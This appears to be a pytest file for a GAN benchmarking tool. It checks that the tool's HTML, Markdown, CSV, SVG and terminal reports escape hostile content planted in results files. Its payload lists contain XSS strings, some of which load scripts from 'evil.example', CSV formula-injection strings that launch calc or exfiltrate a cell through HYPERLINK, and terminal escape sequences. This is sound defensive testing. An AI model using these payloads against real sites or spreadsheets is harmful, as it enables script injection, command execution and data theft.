"""Reports are inert: payloads in every text of a results folder that may reach one, and the parsed result."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import shutil
import warnings
import xml.etree.ElementTree as Xml
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from helpers import kept_results
from helpers.events import notices_into
from pydantic import ValidationError

import gan_bench as gb
from gan_bench.cli import main
from gan_bench.core.errors import printable
from gan_bench.core.records import Score
from gan_bench.core.training_spec import TrainingSpec
from gan_bench.report.csv_text import csv_bytes
from gan_bench.store.store import Store

pytestmark = pytest.mark.xdist_group("inert reports")  # they share one report
MARKUP = (
    "<script>alert(1)</script>",
    "</style><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<iframe src='javascript:alert(1)'>",
    '<a href="javascript:alert(1)">x</a>',
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<math><mtext></table><img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% for x in y %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "![x](//evil.example/y.png)",
    "[x](javascript:alert(1))",
    "```\n<img src=//evil.example/y.png>\n```",
    "x | y | <img src=//evil.example/z.png>",
    "\n\n# heading\n<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "\u202egnp.exe",
    "$\\frac{",
    "\x1b]8;;//evil.example\x07x\x1b[2J",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=HYPERLINK("//evil.example?x="&A1)',
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n=1+1",
    'x;"=1+1"',
    "\uff1d1+1",
    "',\n=1+1",
    '","=1+1',
)
PAYLOADS = MARKUP + FORMULAS
RECORD = (
    "reason", "log_tail", "verdict_reason", "caveat", "dataset_requested", "evaluation_failure",
)  # fmt: skip
PROTOCOL = ("dataset_sha256", "extractor_sha256", "resize", "torch_fidelity_version")
CHART_TAGS = {
    "svg", "g", "path", "rect", "line", "text", "circle", "defs", "clippath",
}  # fmt: skip
TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "header", "h1", "h2", "h3", "p", "dl", "div",
    "dt", "dd", "section", "ul", "ol", "li", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td",
    "span", "figure", "figcaption", "img", "pre", "nav", "a", "strong", "b", "small", "details", "summary",
    "button", "label", "input", "select", "option", "output", "dialog", "form", "script", "wbr",
}  # fmt: skip
ATTRIBUTES = {
    "lang", "charset", "name", "content", "http-equiv", "class", "role", "scope", "alt", "width", "height",
    "src", "href", "id", "hidden", "tabindex", "title", "type", "value", "min", "max", "placeholder", "open",
    "checked", "selected", "method",
}  # fmt: skip
"""Attributes of HTML; those that start with data- or aria- are allowed, too, and any but handlers in charts."""
DATA_URI = "data:image/png;base64,AA=="
EXECUTED = re.compile(r"[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
STARTS = re.compile(r"[\t\r\n]")


def infected(source: Path, runs: Path, payload: str, seed: int) -> None:
    """Copy a run with a payload in every text of its record, scores, settings and environment."""
    line = "".join(sign for sign in payload if sign.isprintable())  # fields that must be one line
    spec = json.loads((source / "spec.json").read_text())
    spec |= {"seed": seed, "settings": {**spec["settings"], "note": line}}
    run_id = TrainingSpec.model_validate(spec).run_id
    shutil.copytree(source, runs / run_id)
    (runs / run_id / "SHA256SUMS").unlink()  # an attacker sends sums that match, or none
    record = json.loads((source / "record.json").read_text())
    record |= {**dict.fromkeys(RECORD, payload), "run_id": run_id, "device": line, "device_name": line}
    record |= {"started_at": line, "finished_at": line}
    record |= {"status": ("done", "failed", "diverged")[seed % 3], "steps": seed}
    scores = json.loads((source / "scores.json").read_text())
    for score in scores:
        score |= {"title": line, "value": -1.5 - seed}
        score["protocol"] |= dict.fromkeys((*PROTOCOL, "batch_norm"), line)
    environment = {payload: payload, "nested": {payload: payload}, "commit": payload, "torch_version": payload}
    for name, values in (("spec", spec), ("record", record), ("scores", scores), ("environment", environment)):
        (runs / run_id / f"{name}.json").write_text(json.dumps(values))


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory, kept: Path) -> Path:
    """A report of one run per payload."""
    out = tmp_path_factory.mktemp("infected") / "out"
    (out / "runs").mkdir(parents=True)
    for seed, payload in enumerate(PAYLOADS):
        infected(kept_results.run_folder(kept, kept_results.DONE), out / "runs", payload, seed)
    notices: list[str] = []
    assert len(Store.open(out, create=False, on_event=notices_into(notices)).runs()) == len(PAYLOADS), notices
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # about characters that the plots' font lacks
        gb.write_report(out)
    return out / "report"


class Page(HTMLParser):
    """The page as a browser parses it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_decl(self, decl: str) -> None:
        assert decl == "doctype html"

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"an instruction: {data}")


def test_the_page_has_no_foreign_script_no_handler_and_no_request(report: Path) -> None:
    html = (report / "index.html").read_text()
    page = Page(html)
    assert {tag for tag, _ in page.tags} <= TAGS | CHART_TAGS
    for tag, attributes in page.tags:
        own = {name for name in attributes if not name.startswith(("data-", "aria-"))}
        assert not [name for name in own if name.startswith("on") or name == "style"], (tag, attributes)
        assert tag in CHART_TAGS or own <= ATTRIBUTES, (tag, attributes)
        assert re.fullmatch(r"data:image/(png|webp);base64,[A-Za-z0-9+/=]+", attributes.get("src") or DATA_URI)
        assert re.fullmatch(r"#[\w-]+|(runs|scores)\.(csv|parquet)", attributes.get("href") or "#x")
    (policy,) = [str(values["content"]) for tag, values in page.tags if values.get("http-equiv")]
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert "unsafe" not in policy
    blocks = re.findall(r"<(script|style)( type=\"application/json\" id=\"data\")?>(.*?)</\1>", html, re.DOTALL)
    assert len(blocks) == len([tag for tag, _ in page.tags if tag in ("script", "style")]) == 4
    for tag, is_data, text in blocks:
        if is_data:
            json.loads(text)
            assert "<" not in text
        else:
            digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
            assert f"'sha256-{digest}'" in policy, tag
            assert [payload for payload in MARKUP if payload in text] == []
    (style,) = [text for tag, _, text in blocks if tag == "style"]
    assert "url(" not in style
    assert "@import" not in style
    shown = " ".join(" ".join(page.texts).split())
    missing = [payload for payload in PAYLOADS if printable(" ".join(payload.split())) not in shown]
    assert missing == [], "these did not reach the page"


@pytest.mark.parametrize("name", ["index.html", "report.md", "runs.csv", "scores.csv", "plots/*.svg"])
def test_control_and_bidirectional_characters_are_escaped_everywhere(report: Path, name: str) -> None:
    for path in report.glob(name):
        text = path.read_bytes().decode().partition("<script>")[0]  # without the page's own scripts
        odd = {char for char in text if not char.isprintable() and char != "\n"}
        assert odd == set(), path


def test_the_markdown_has_text_and_its_own_plots_only(report: Path) -> None:
    text = (report / "report.md").read_text()
    prose, *commands = text.split("```")
    assert len(commands) == 2, "one block of commands, at the end"
    assert all(re.match(r"gan-bench run |    --|    [a-z-]+|$|bash$", line) for line in commands[0].splitlines())
    assert not re.search(r"(?<!\\)<[A-Za-z/!?]", prose)
    pictures = re.findall(r"(?<!\\)!\[[^\]]*\]\(([^)]*)\)", prose)
    assert pictures
    assert all(re.fullmatch(r"plots/[a-z_]+\.png", picture) for picture in pictures)
    assert len(re.findall(r"(?<!\\)\]\(", prose)) == len(pictures), "a link"
    assert {line for line in prose.splitlines() if line.startswith("# ")} == {"# GAN benchmark"}


def cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", ["runs.csv", "scores.csv", "summary.csv", "leaderboard.csv"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula(report: Path, name: str, delimiter: str) -> None:
    """Some spreadsheets split cells at semicolons or tabs too, whatever the file name."""
    text = (report / name).read_text()
    found = cells(text, delimiter)
    assert len(found) > len(PAYLOADS) // 2, "hardly any row"
    assert [cell for cell in found if EXECUTED.match(cell) and not is_number(cell)] == []
    if delimiter == ",":
        assert [cell for cell in found if STARTS.match(cell)] == []
        assert {len(row) for row in csv.reader(io.StringIO(text))} == {len(next(csv.reader(io.StringIO(text))))}


def test_numbers_are_unchanged_and_text_is_complete(report: Path) -> None:
    with (report / "runs.csv").open(newline="") as file:
        runs = {int(row["seed"]): row for row in csv.DictReader(file)}
    with (report / "scores.csv").open(newline="") as file:
        values = {(row["run_id"], row["metric"]): row["value"] for row in csv.DictReader(file)}
    for seed, payload in enumerate(PAYLOADS):
        assert runs[seed]["steps"] == str(seed)
        assert float(values[runs[seed]["run_id"], "fid"]) == -1.5 - seed
        kept = runs[seed]["reason"].replace("'", "").split()
        text = printable(payload.replace("\r\n", "\n").replace("\r", "\n"))
        assert kept == text.replace("'", "").split(), "only apostrophes and escapes are added"


def test_plots_contain_no_script_and_request_nothing(report: Path) -> None:
    drawn = sorted((report / "plots").glob("*.svg"))
    assert len(drawn) > 3
    for path in drawn:
        for element in Xml.fromstring(path.read_text()).iter():
            tag = element.tag.rpartition("}")[2]
            assert tag not in ("script", "foreignObject", "iframe", "a", "animate", "set")
            for key, value in element.attrib.items():
                name = key.rpartition("}")[2]
                assert not name.startswith("on")
                if name in ("href", "src"):
                    assert value.startswith(("#", "data:image/png;base64,"))
                assert "url(" not in value or "url(#" in value


def test_the_terminal_gets_no_escape_sequences(report: Path) -> None:
    """Escape sequences in a results folder are not printed."""
    out = report.parent
    for arguments in (
        ["status", str(out)],
        ["compare", "vanilla", "vanilla", str(out)],
        ["doctor", f"--results={out}"],
    ):
        result = CliRunner().invoke(main, arguments)
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x9b]", result.output), arguments


@pytest.mark.parametrize("payload", ["\x1b]0;x\x07", "\x9b2J"])
@pytest.mark.parametrize("place", ["key", "run_id"])
def test_the_terminal_gets_no_escape_sequences_of_a_damaged_record(
    tmp_path: Path, kept: Path, payload: str, place: str
) -> None:
    """The error message about an unreadable file quotes its content."""
    whole = kept_results.run_folder(kept, kept_results.DONE)
    folder = tmp_path / "runs" / whole.name
    shutil.copytree(whole, folder)
    record = json.loads((folder / "record.json").read_text())
    (folder / "record.json").write_text(
        json.dumps(record | ({payload: 1} if place == "key" else {place: payload}))
    )
    commands = ("report", tmp_path), ("status", tmp_path), ("compare", "a", "b", tmp_path)
    for words in (*commands, ("sample", whole.name, "--dir", tmp_path)):
        result = CliRunner().invoke(main, [str(word) for word in words])
        assert "record.json: " in result.stderr, words
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x9b]", result.output), words


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_column_name_is_a_formula(payload: str) -> None:
    """A plugin's metric chooses the name of its column."""
    heading = next(csv.reader(io.StringIO(csv_bytes(pd.DataFrame({payload: [1.0]})).decode())))[0]
    assert not EXECUTED.match(heading)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_metric_names_are_identifiers_and_titles_are_one_line(kept: Path, payload: str) -> None:
    score = json.loads((kept_results.run_folder(kept, kept_results.DONE) / "scores.json").read_text())[0]
    with pytest.raises(ValidationError):
        Score.model_validate({**score, "metric": payload})
    if not payload.isprintable():
        with pytest.raises(ValidationError):
            Score.model_validate({**score, "title": payload})
